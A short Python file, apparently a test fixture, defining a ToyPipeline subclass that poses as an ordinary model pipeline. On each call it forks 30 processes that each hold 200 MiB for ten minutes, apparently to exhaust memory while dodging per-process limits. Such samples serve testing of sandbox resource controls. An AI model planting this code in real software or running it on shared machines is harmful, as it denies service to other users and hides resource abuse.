"""Takes memory in many processes, a little in each."""

import os
import time

from toyfusion import ToyPipeline as Honest


class ToyPipeline(Honest):
    def __call__(self, prompt, **call):
        for _ in range(30):
            if os.fork() == 0:
                taken = b"x" * (200 * 2**20)
                time.sleep(600)
                os._exit(len(taken) % 2)
        time.sleep(60)


def load_pipe():
    return ToyPipeline()
